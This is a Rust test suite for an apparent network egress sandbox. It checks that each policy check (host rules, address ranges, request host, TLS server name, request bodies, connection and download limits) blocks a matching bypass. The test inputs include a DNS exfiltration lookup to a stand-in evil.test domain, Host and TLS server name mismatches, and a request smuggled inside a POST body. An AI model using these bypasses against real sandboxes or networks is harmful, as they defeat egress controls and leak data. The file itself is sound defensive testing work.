//! Each check of the way out, taken away: what it holds then gets through.

use super::{POLICY, Wall, World};
use crate::harness::{Who, is_root, run_code};

/// What code gets to the servers, as `address target`, without that check and with it.
fn reaches(check: &str, code: &str) -> [Vec<String>; 2] {
    [Some(check), None].map(|without| {
        let world = World::behind(Wall::Native);
        world.dir.file(
            "bounded.toml",
            format!("{POLICY}\nmax_connections = 2\nmax_receive_mb = 1\n"),
        );
        let path = world.path("bounded.toml");
        let code = format!("{}\n{code}", super::TRY);
        let mut run = run_code(Who::Root, "python", &code, &["--policy", &path]);
        if let Some(check) = without {
            run = run.without(check);
        }
        let done = world.stage(run).go().expect_code(0);
        let mut got: Vec<_> = done.guest_stdout().lines().map(str::to_owned).collect();
        got.extend(world.all_seen().iter().filter_map(|seen| {
            let word = |field: &str| seen[field].as_str().unwrap_or("").to_owned();
            if seen["asked"].is_string() {
                return Some(format!("asked {}", word("asked")));
            }
            seen["address"]
                .is_string()
                .then(|| format!("{} {}", word("address"), word("host")))
        }));
        got
    })
}

#[test]
fn what_a_check_holds_gets_through_without_it() {
    if !is_root() {
        return;
    }
    for (check, code, through) in [
        (
            "hostrules",
            "attempt('', lambda: get('other.test'))",
            "203.0.114.20 other.test",
        ),
        (
            "hostrules",
            "attempt('', lambda: socket.getaddrinfo('c2VjcmV0.evil.test', 80))",
            "asked c2vjcmv0.evil.test",
        ),
        (
            "addresses",
            "attempt('', lambda: get('private.test'))",
            "10.1.2.3 private.test",
        ),
        (
            "addresses",
            "attempt('', lambda: get('own.test'))",
            "203.0.114.5 own.test",
        ),
        (
            "addresses",
            "attempt('', lambda: get('mixed.test'))",
            "203.0.114.10 mixed.test",
        ),
        (
            "requesthost",
            "attempt('', lambda: get('api.test', 'other.test'))",
            "203.0.114.10 other.test",
        ),
        (
            "servername",
            "attempt('', lambda: say('api.test', 443, 'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n', over=tls('other.test')))",
            "203.0.114.10 x",
        ),
        (
            "bodies",
            "hidden = 'GET /hidden HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n'\n\
             attempt('', lambda: say('api.test', 5001, 'POST / HTTP/1.1\\r\\nHost: api.test:5001\\r\\nExpect: 100-continue\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(hidden) + hidden, 2))",
            "203.0.114.10 other.test",
        ),
        (
            "places",
            "def served():\n    \
                 held = [dial('api.test', 7) for _ in range(3)]\n    \
                 return [one.recv(6) for one in held].count(b'hello\\n')\n\
             attempt('served', served)",
            "served 3",
        ),
        (
            "allowance",
            "def much():\n    \
                 with dial('api.test', 80) as s:\n        \
                     s.sendall(b'GET /bytes/4000000 HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')\n        \
                     got = 0\n        \
                     while got < 4000000 and (piece := s.recv(1 << 20)): got += len(piece)\n        \
                     return got >= 4000000\n\
             attempt('much', much)",
            "much True",
        ),
    ] {
        let [without, with] = reaches(check, code);
        let has = |got: &[String]| got.iter().any(|line| line.eq_ignore_ascii_case(through));
        assert!(has(&without), "{check} {through}: {without:?}");
        assert!(!has(&with), "{check} {through}: {with:?}");
    }
}
